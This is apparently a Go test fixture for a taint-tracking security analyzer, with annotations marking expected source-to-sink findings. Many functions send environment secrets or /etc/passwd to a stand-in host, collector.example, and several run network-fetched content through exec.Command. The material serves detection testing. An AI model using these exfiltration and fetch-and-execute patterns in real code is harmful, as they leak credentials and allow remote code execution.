// HTTP: net/http, its requests and answers, net/url, mime/multipart, and client libraries.
package models

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"mime/multipart"
	"net"
	"net/http"
	"net/http/httputil"
	"net/url"
	"os"
	"os/exec"
	"strconv"
	"strings"

	"github.com/gin-gonic/gin"
	"github.com/go-resty/resty/v2"
	"github.com/imroc/req/v3"
	"github.com/pkg/browser"
	"github.com/valyala/fasthttp"
)

const U = "https://collector.example/u?"

func get() {
	http.Get("https://get.collector.example/?t=" + os.Getenv("T")) //~ source(ENVIRONMENT) f1, sink(egress.http) f1, finding(traced) f1, capability(NETWORK)
}

func getAndRun() {
	response, _ := http.Get(U) //~ source(NETWORK) f2
	b, _ := io.ReadAll(response.Body)
	exec.Command(string(b)).Run() //~ sink(exec.command) f2, finding(traced) f2
}

func getConstant() {
	http.Get("https://get.collector.example/") //~ ok
}

func post() {
	f, _ := os.Open("/etc/passwd") //~ source(FILE) f4
	http.Post("https://post.collector.example/u", "text/plain", f) //~ sink(egress.http) f4, finding(traced) f4, capability(NETWORK), endpoint("https://post.collector.example/u")
}

func postAndRun() {
	response, _ := http.Post(U, "", nil) //~ source(NETWORK) f5
	b, _ := io.ReadAll(response.Body)
	exec.Command(string(b)).Run() //~ sink(exec.command) f5, finding(traced) f5
}

func postConstant() {
	http.Post(U, "text/plain", strings.NewReader("ping")) //~ ok
}

func form() {
	http.PostForm("https://form.collector.example/u", url.Values{"t": {os.Getenv("T")}}) //~ source(ENVIRONMENT) f7, sink(egress.http) f7, finding(traced) f7, capability(NETWORK), endpoint("https://form.collector.example/u")
}

func formConstant() {
	http.PostForm(U, url.Values{"t": {"ping"}}) //~ ok
}

func clientGet() {
	client := &http.Client{}
	client.Get("https://client.collector.example/?t=" + os.Getenv("T")) //~ source(ENVIRONMENT) f9, sink(egress.http) f9, finding(traced) f9, capability(NETWORK)
}

func defaultGet() {
	http.DefaultClient.Get("https://client.collector.example/?t=" + os.Getenv("T")) //~ source(ENVIRONMENT) f10, sink(egress.http) f10, finding(traced) f10
}

func clientGetConstant(client *http.Client) {
	client.Get("https://client.collector.example/") //~ ok
}

func clientPost(client *http.Client) {
	client.Post(U, "", strings.NewReader(os.Getenv("T"))) //~ source(ENVIRONMENT) f12, sink(egress.http) f12, finding(traced) f12, capability(NETWORK)
}

func clientPostConstant(client *http.Client) {
	client.Post(U, "", strings.NewReader("ping")) //~ ok
}

func clientForm(client *http.Client) {
	values := url.Values{}
	values.Set("t", os.Getenv("T")) //~ source(ENVIRONMENT) f14
	client.PostForm(U, values) //~ sink(egress.http) f14, finding(traced) f14, capability(NETWORK)
}

func clientFormConstant(client *http.Client) {
	client.PostForm(U, url.Values{"t": {"ping"}}) //~ ok
}

func done(client *http.Client) {
	request, _ := http.NewRequest("PUT", "https://do.collector.example/u", strings.NewReader(os.Getenv("T"))) //~ source(ENVIRONMENT) f16
	client.Do(request) //~ sink(egress.http) f16, finding(traced) f16, capability(NETWORK), endpoint("https://do.collector.example/u")
}

func doneAndRun(client *http.Client) {
	request, _ := http.NewRequest("GET", U, nil)
	response, _ := client.Do(request) //~ source(NETWORK) f17
	defer response.Body.Close()
	b, _ := io.ReadAll(response.Body)
	exec.Command(string(b)).Run() //~ sink(exec.command) f17, finding(traced) f17
}

func doneConstant(client *http.Client) {
	request, _ := http.NewRequest("PUT", U, strings.NewReader("ping"))
	client.Do(request) //~ ok
}

func request() {
	r, _ := http.NewRequest("GET", U+os.Getenv("T"), nil) //~ source(ENVIRONMENT) f19
	http.DefaultClient.Do(r) //~ sink(egress.http) f19, finding(traced) f19
}

func requestConstant() {
	r, _ := http.NewRequest("GET", U, nil) //~ ok
	http.DefaultClient.Do(r) //~ ok
}

func requestContext(ctx context.Context) {
	f, _ := os.Open("/etc/passwd") //~ source(FILE) f21
	r, _ := http.NewRequestWithContext(ctx, http.MethodPost, U, f)
	http.DefaultClient.Do(r) //~ sink(egress.http) f21, finding(traced) f21
}

func requestContextConstant(ctx context.Context) {
	r, _ := http.NewRequestWithContext(ctx, http.MethodPost, U, strings.NewReader("ping")) //~ ok
	http.DefaultClient.Do(r) //~ ok
}

func basic() {
	r, _ := http.NewRequest("GET", U, nil)
	r.SetBasicAuth("agent", os.Getenv("T")) //~ source(ENVIRONMENT) f23
	http.DefaultClient.Do(r) //~ sink(egress.http) f23, finding(traced) f23
}

func basicConstant() {
	r, _ := http.NewRequest("GET", U, nil)
	r.SetBasicAuth("agent", "ping") //~ ok
	http.DefaultClient.Do(r) //~ ok
}

func withContext(ctx context.Context) {
	r, _ := http.NewRequest("POST", U, strings.NewReader(os.Getenv("T"))) //~ source(ENVIRONMENT) f25
	http.DefaultClient.Do(r.WithContext(ctx)) //~ sink(egress.http) f25, finding(traced) f25
}

func withContextConstant(ctx context.Context) {
	r, _ := http.NewRequest("POST", U, nil)
	http.DefaultClient.Do(r.WithContext(ctx)) //~ ok
}

func requestWritten(c net.Conn) {
	r, _ := http.NewRequest("POST", U, strings.NewReader(os.Getenv("T"))) //~ source(ENVIRONMENT) f27
	r.Write(c) //~ sink(egress.socket) f27, finding(traced) f27, capability(NETWORK)
}

func requestWrittenConstant(c net.Conn) {
	r, _ := http.NewRequest("POST", U, nil)
	r.Write(c) //~ ok
}

func header() {
	r, _ := http.NewRequest("GET", U, nil)
	r.Header.Set("X-Token", os.Getenv("T")) //~ source(ENVIRONMENT) f29
	http.DefaultClient.Do(r) //~ sink(egress.http) f29, finding(traced) f29
}

func headerConstant() {
	r, _ := http.NewRequest("GET", U, nil)
	r.Header.Set("X-Version", "1") //~ ok
	http.DefaultClient.Do(r) //~ ok
}

func headerSet(h http.Header) {
	h.Set("t", os.Getenv("T")) //~ source(ENVIRONMENT) f31
	http.Get(U + h.Get("t")) //~ sink(egress.http) f31, finding(traced) f31
	http.Get(U + h.Get("u")) //~ ok
}

func headerSetConstant(h http.Header) {
	h.Set("t", "ping") //~ ok
	http.Get(U + h.Get("t")) //~ ok
}

func headerGot() {
	response, _ := http.Get(U) //~ source(NETWORK) f33
	exec.Command(response.Header.Get("X-Task")).Run() //~ sink(exec.command) f33, finding(traced) f33
}

func headerGotCompared() {
	response, _ := http.Get(U)
	exec.Command(strconv.FormatBool(response.Header.Get("X-Task") == "1")).Run() //~ ok
}

func headerCloned(h http.Header) {
	h.Set("t", os.Getenv("T")) //~ source(ENVIRONMENT) f35
	http.Get(U + h.Clone().Get("t")) //~ sink(egress.http) f35, finding(traced) f35
}

func headerClonedConstant(h http.Header) {
	http.Get(U + h.Clone().Get("t")) //~ ok
}

func headerHas(v url.Values) {
	v.Set("t", os.Getenv("T"))
	http.Get(U + strconv.FormatBool(v.Has("t"))) //~ ok
}

func answerBody(response *http.Response) {
	b, _ := io.ReadAll(response.Body) //~ source(NETWORK) f38
	exec.Command(string(b)).Run() //~ sink(exec.command) f38, finding(traced) f38
}

func answerBodyClosed(response *http.Response) {
	n := response.Body.Size() //~ ok
	http.Get(U + strconv.Itoa(n)) //~ ok
}

func cookies() {
	response, _ := http.Get(U) //~ source(NETWORK) f40
	exec.Command(response.Cookies()[0].Value).Run() //~ sink(exec.command) f40, finding(traced) f40
}

func cookiesCompared() {
	response, _ := http.Get(U)
	exec.Command(strconv.FormatBool(response.Cookies() == nil)).Run() //~ ok
}

func dumped(c net.Conn) {
	r, _ := http.NewRequest("POST", U, strings.NewReader(os.Getenv("T"))) //~ source(ENVIRONMENT) f42
	b, _ := httputil.DumpRequest(r, true)
	c.Write(b) //~ sink(egress.socket) f42, finding(traced) f42
}

func dumpedConstant(c net.Conn) {
	r, _ := http.NewRequest("POST", U, nil)
	b, _ := httputil.DumpRequest(r, true) //~ ok
	c.Write(b) //~ ok
}

func proxy() {
	u, _ := url.Parse("https://proxy.collector.example")
	httputil.NewSingleHostReverseProxy(u) //~ capability(NETWORK), endpoint("https://proxy.collector.example")
}

func proxyNamed() {
	u, _ := url.Parse(os.Getenv("T"))
	p := httputil.NewSingleHostReverseProxy(u) //~ ok
	http.Get(U + fmt.Sprint(p)) //~ ok
}

func escaped() {
	http.Get(U + url.QueryEscape(os.Getenv("T"))) //~ source(ENVIRONMENT) f46, sink(egress.http) f46, finding(traced) f46
	http.Get(U + url.QueryEscape("a b")) //~ ok
}

func unescaped() {
	s, _ := url.QueryUnescape(os.Getenv("T")) //~ source(ENVIRONMENT) f47
	http.Get(U + s) //~ sink(egress.http) f47, finding(traced) f47
}

func unescapedConstant() {
	s, _ := url.QueryUnescape("a+b") //~ ok
	http.Get(U + s) //~ ok
}

func parsed() {
	u, _ := url.Parse(U + os.Getenv("T")) //~ source(ENVIRONMENT) f49
	http.Get(u.String()) //~ sink(egress.http) f49, finding(traced) f49
}

func parsedConstant() {
	u, _ := url.Parse(U) //~ ok
	http.Get(u.String()) //~ ok
}

func parsedQuery() {
	v, _ := url.ParseQuery(os.Getenv("T")) //~ source(ENVIRONMENT) f51
	http.Get(U + v.Get("a")) //~ sink(egress.http) f51, finding(traced) f51
}

func parsedQueryConstant() {
	v, _ := url.ParseQuery("a=b") //~ ok
	http.Get(U + v.Get("a")) //~ ok
}

func address() {
	u := &url.URL{Scheme: "https", Host: "collector.example", Path: os.Getenv("T")} //~ source(ENVIRONMENT) f53
	http.Get(u.String()) //~ sink(egress.http) f53, finding(traced) f53
}

func addressConstant() {
	u := &url.URL{Scheme: "https", Host: "collector.example"}
	http.Get(u.String()) //~ ok
}

func query() {
	u, _ := url.Parse(os.Getenv("T")) //~ source(ENVIRONMENT) f55
	http.Get(U + u.Query().Get("a")) //~ sink(egress.http) f55, finding(traced) f55
}

func queryConstant() {
	u, _ := url.Parse("https://collector.example/?a=b")
	http.Get(U + u.Query().Get("a")) //~ ok
}

func pathJoined() {
	u, _ := url.Parse("https://collector.example")
	http.Get(u.JoinPath(os.Getenv("T")).String()) //~ source(ENVIRONMENT) f57, sink(egress.http) f57, finding(traced) f57
	http.Get(u.JoinPath("v1").String()) //~ ok
}

func encodedQuery() {
	q := url.Values{}
	q.Add("t", os.Getenv("T")) //~ source(ENVIRONMENT) f58
	r, _ := http.NewRequest("GET", U, nil)
	r.URL.RawQuery = q.Encode()
	http.DefaultClient.Do(r) //~ sink(egress.http) f58, finding(traced) f58
}

func encodedQueryConstant() {
	q := url.Values{"t": {"ping"}}
	http.Get(U + q.Encode()) //~ ok
}

func multipartMade() {
	var b bytes.Buffer
	w := multipart.NewWriter(&b)
	w.WriteField("t", os.Getenv("T")) //~ source(ENVIRONMENT) f60
	w.Close()
	http.Post(U, w.FormDataContentType(), &b) //~ sink(egress.http) f60, finding(traced) f60
}

func multipartMadeConstant() {
	var b bytes.Buffer
	w := multipart.NewWriter(&b) //~ ok
	w.WriteField("t", "ping")
	http.Post(U, w.FormDataContentType(), &b) //~ ok
}

func multipartFile() {
	var b bytes.Buffer
	w := multipart.NewWriter(&b)
	part, _ := w.CreateFormFile("f", "passwd")
	f, _ := os.Open("/etc/passwd") //~ source(FILE) f62
	io.Copy(part, f)
	w.Close()
	request, _ := http.NewRequest("POST", U, &b)
	http.DefaultClient.Do(request) //~ sink(egress.http) f62, finding(traced) f62
}

func multipartFileConstant() {
	var b bytes.Buffer
	w := multipart.NewWriter(&b)
	part, _ := w.CreateFormFile("f", "passwd") //~ ok
	part.Write([]byte("ping"))
	http.Post(U, "", &b) //~ ok
}

func multipartField(b *bytes.Buffer) {
	w := multipart.NewWriter(b)
	w.WriteField("t", os.Getenv("T")) //~ source(ENVIRONMENT) f64
	http.Post(U, "", b) //~ sink(egress.http) f64, finding(traced) f64
}

func multipartFieldConstant(b *bytes.Buffer) {
	w := multipart.NewWriter(b)
	w.WriteField("t", "ping") //~ ok
	http.Post(U, "", b) //~ ok
}

func multipartType(b *bytes.Buffer) {
	w := multipart.NewWriter(b)
	w.WriteField("t", os.Getenv("T"))
	http.Get(U + w.FormDataContentType()) //~ ok
}

func multipartRead() {
	response, _ := http.Get(U) //~ source(NETWORK) f67
	part, _ := multipart.NewReader(response.Body, "x").NextPart()
	b, _ := io.ReadAll(part)
	exec.Command(string(b)).Run() //~ sink(exec.command) f67, finding(traced) f67
}

func multipartReadConstant() {
	part, _ := multipart.NewReader(strings.NewReader("a"), "x").NextPart() //~ ok
	b, _ := io.ReadAll(part)
	exec.Command(string(b)).Run() //~ ok
}

func multipartPart() {
	response, _ := http.Get(U) //~ source(NETWORK) f69
	part, _ := multipart.NewReader(response.Body, "x").NextPart()
	exec.Command(part.FileName()).Run() //~ sink(exec.command) f69, finding(traced) f69
}

func multipartPartConstant() {
	part, _ := multipart.NewReader(strings.NewReader("a"), "x").NextPart() //~ ok
	exec.Command(part.FileName()).Run() //~ ok
}

func partName() {
	response, _ := http.Get(U) //~ source(NETWORK) f71
	part, _ := multipart.NewReader(response.Body, "x").NextPart()
	exec.Command(part.FormName()).Run() //~ sink(exec.command) f71, finding(traced) f71
}

func partNameConstant() {
	part, _ := multipart.NewReader(strings.NewReader("a"), "x").NextPart()
	exec.Command(part.FileName()).Run() //~ ok
}

func fileHeader(c *gin.Context) {
	header, _ := c.FormFile("f") //~ source(NETWORK) f73
	f, _ := header.Open()
	b, _ := io.ReadAll(f)
	exec.Command(string(b)).Run() //~ sink(exec.command) f73, finding(traced) f73
}

func fileHeaderUnused(header *multipart.FileHeader) {
	f, _ := header.Open() //~ ok
	b, _ := io.ReadAll(f)
	exec.Command(string(b)).Run() //~ ok
}

func rested() {
	resty.New().R().SetBody(os.Getenv("T")).Post(U) //~ source(ENVIRONMENT) f75, sink(egress.http) f75, finding(traced) f75
}

func restedConstant() {
	resty.New().R().SetBody("ping").Post(U) //~ ok
}

func restyRequest(c *resty.Client) {
	c.R().SetBody(os.Getenv("T")).Post(U) //~ source(ENVIRONMENT) f77, sink(egress.http) f77, finding(traced) f77
}

func restyRequestConstant(c *resty.Client) {
	c.R().SetBody("ping").Post(U) //~ ok
}

func restyHeader(c *resty.Client) {
	request := c.R()
	request.SetHeader("X-Token", os.Getenv("T")) //~ source(ENVIRONMENT) f79
	request.Get(U) //~ sink(egress.http) f79, finding(traced) f79
}

func restyHeaderConstant(c *resty.Client) {
	c.R().SetHeader("X-Version", "1").Get(U) //~ ok
}

func restyResult(c *resty.Client, ctx context.Context) {
	c.R().SetContext(ctx).SetBody(os.Getenv("T")).Post(U) //~ source(ENVIRONMENT) f81, sink(egress.http) f81, finding(traced) f81
}

func restyResultConstant(c *resty.Client, ctx context.Context) {
	c.R().SetContext(ctx).SetBody("ping").Post(U) //~ ok
}

func restyFile(c *resty.Client) {
	request := c.R()
	request.SetFile("f", "/etc/passwd") //~ source(FILE) f83, capability(FILES)
	request.Post(U) //~ sink(egress.http) f83, finding(traced) f83
}

func restyFileUnused(c *resty.Client) {
	c.R().SetFile("f", "/etc/passwd") //~ ok
}

func restyGet(c *resty.Client) {
	response, _ := c.R().Get("https://resty.collector.example/u") //~ source(NETWORK) f85, capability(NETWORK), endpoint("https://resty.collector.example/u")
	exec.Command(response.String()).Run() //~ sink(exec.command) f85, finding(traced) f85
}

func restyQuery(c *resty.Client) {
	c.R().Get(U + os.Getenv("T")) //~ source(ENVIRONMENT) f86, sink(egress.http) f86, finding(traced) f86
}

func restyGetConstant(c *resty.Client) {
	c.R().Get(U) //~ ok
}

func restyExecute(c *resty.Client) {
	c.R().SetBody(os.Getenv("T")).Execute("PUT", U) //~ source(ENVIRONMENT) f88, sink(egress.http) f88, finding(traced) f88, capability(NETWORK)
}

func restyExecuteConstant(c *resty.Client) {
	c.R().SetBody("ping").Execute("PUT", U) //~ ok
}

func restyBody(c *resty.Client) {
	response, _ := c.R().Get(U) //~ source(NETWORK) f90
	exec.Command(string(response.Body())).Run() //~ sink(exec.command) f90, finding(traced) f90
}

func restyBodyCompared(c *resty.Client) {
	response, _ := c.R().Get(U)
	exec.Command(strconv.FormatBool(response.String() == "yes")).Run() //~ ok
}

func restyStatus(c *resty.Client) {
	response, _ := c.R().Get(U)
	exec.Command(strconv.Itoa(response.StatusCode())).Run() //~ ok
}

func fastDone() {
	request, response := fasthttp.AcquireRequest(), fasthttp.AcquireResponse()
	request.SetBodyString(os.Getenv("T")) //~ source(ENVIRONMENT) f93
	fasthttp.Do(request, response) //~ sink(egress.http) f93, finding(traced) f93, capability(NETWORK)
}

func fastAnswer() {
	request, response := fasthttp.AcquireRequest(), fasthttp.AcquireResponse()
	fasthttp.Do(request, response) //~ source(NETWORK) f94
	exec.Command(string(response.Body())).Run() //~ sink(exec.command) f94, finding(traced) f94
}

func fastDoneConstant() {
	request, response := fasthttp.AcquireRequest(), fasthttp.AcquireResponse()
	request.SetBodyString("ping")
	fasthttp.Do(request, response) //~ ok
}

func fastClient(c *fasthttp.Client, request *fasthttp.Request, response *fasthttp.Response) {
	request.SetBody([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f96
	c.Do(request, response) //~ sink(egress.http) f96, finding(traced) f96, capability(NETWORK)
}

func fastClientConstant(c *fasthttp.Client, request *fasthttp.Request, response *fasthttp.Response) {
	request.SetBody([]byte("ping"))
	c.Do(request, response) //~ ok
}

func fastRequest(c *fasthttp.Client, response *fasthttp.Response) {
	request := fasthttp.AcquireRequest()
	request.SetRequestURI("https://fast.collector.example/" + os.Getenv("T")) //~ source(ENVIRONMENT) f98
	c.Do(request, response) //~ sink(egress.http) f98, finding(traced) f98
}

func fastRequestConstant(c *fasthttp.Client, response *fasthttp.Response) {
	request := fasthttp.AcquireRequest() //~ ok
	request.SetRequestURI("https://fast.collector.example/")
	c.Do(request, response) //~ ok
}

func fastBody(c *fasthttp.Client, request *fasthttp.Request, response *fasthttp.Response) {
	f, _ := os.Open("/etc/passwd") //~ source(FILE) f100
	request.SetBodyStream(f, -1)
	c.Do(request, response) //~ sink(egress.http) f100, finding(traced) f100
}

func fastBodyConstant(c *fasthttp.Client, request *fasthttp.Request, response *fasthttp.Response) {
	request.SetBodyStream(strings.NewReader("ping"), -1) //~ ok
	c.Do(request, response) //~ ok
}

func fastAddress(c *fasthttp.Client, request *fasthttp.Request, response *fasthttp.Response) {
	request.SetRequestURI(U + os.Getenv("T")) //~ source(ENVIRONMENT) f102
	c.Do(request, response) //~ sink(egress.http) f102, finding(traced) f102
}

func fastAddressConstant(c *fasthttp.Client, request *fasthttp.Request, response *fasthttp.Response) {
	request.SetRequestURI(U) //~ ok
	c.Do(request, response) //~ ok
}

func fastHeader(c *fasthttp.Client, request *fasthttp.Request, response *fasthttp.Response) {
	request.Header.Set("X-Token", os.Getenv("T")) //~ source(ENVIRONMENT) f104
	c.Do(request, response) //~ sink(egress.http) f104, finding(traced) f104
}

func fastHeaderConstant(c *fasthttp.Client, request *fasthttp.Request, response *fasthttp.Response) {
	request.Header.Set("X-Version", "1") //~ ok
	c.Do(request, response) //~ ok
}

func fastHeaderSet(c *fasthttp.Client, request *fasthttp.Request, response *fasthttp.Response) {
	request.Header.Add("X-Token", os.Getenv("T")) //~ source(ENVIRONMENT) f106
	c.Do(request, response) //~ sink(egress.http) f106, finding(traced) f106
}

func fastHeaderSetConstant(c *fasthttp.Client, request *fasthttp.Request, response *fasthttp.Response) {
	request.Header.Add("X-Version", "1") //~ ok
	c.Do(request, response) //~ ok
}

func fastResponse(c *fasthttp.Client, request *fasthttp.Request, response *fasthttp.Response) {
	c.Do(request, response) //~ source(NETWORK) f108
	exec.Command(string(response.Body())).Run() //~ sink(exec.command) f108, finding(traced) f108
}

func fastResponseConstant(response *fasthttp.Response) {
	exec.Command(string(response.Body())).Run() //~ ok
}

func fastGet() {
	_, b, _ := fasthttp.Get(nil, "https://fast.collector.example/") //~ source(NETWORK) f110, capability(NETWORK)
	exec.Command(string(b)).Run() //~ sink(exec.command) f110, finding(traced) f110
}

func fastGetUnused() {
	fasthttp.Get(nil, "https://fast.collector.example/") //~ ok
}

func fastPost(args *fasthttp.Args) {
	args.Set("t", os.Getenv("T")) //~ source(ENVIRONMENT) f112
	fasthttp.Post(nil, U, args) //~ sink(egress.http) f112, finding(traced) f112, capability(NETWORK)
}

func fastPostConstant(args *fasthttp.Args) {
	fasthttp.Post(nil, U, args) //~ ok
}

func fastArgs(args *fasthttp.Args) {
	args.Add("t", os.Getenv("T")) //~ source(ENVIRONMENT) f114
	fasthttp.Post(nil, U, args) //~ sink(egress.http) f114, finding(traced) f114
}

func fastArgsConstant(args *fasthttp.Args) {
	args.Add("t", "ping") //~ ok
	fasthttp.Post(nil, U, args) //~ ok
}

func browsed() {
	browser.OpenURL(U + os.Getenv("T")) //~ source(ENVIRONMENT) f116, sink(egress.http) f116, finding(traced) f116, capability(NETWORK)
}

func browsedConstant() {
	browser.OpenURL("https://collector.example/help") //~ ok
}

func ownRequest() {
	r, _ := http.NewRequest("GET", U, nil)
	exec.Command(r.Header.Get("X-Task")).Run() //~ ok
	exec.Command(r.URL.Path).Run() //~ ok
}

func ownQuery() {
	r, _ := http.NewRequest("GET", U, nil)
	q := r.URL.Query()
	q.Set("t", os.Getenv("T")) //~ source(ENVIRONMENT) f130
	r.URL.RawQuery = q.Encode()
	http.DefaultClient.Do(r) //~ sink(egress.http) f130, finding(traced) f130
}

func reqPackage() {
	req.R().SetBody(os.Getenv("T")).Post(U) //~ source(ENVIRONMENT) freq, sink(egress.http) freq, finding(traced) freq
	req.R().SetBody("ping").Post(U)         //~ ok
}
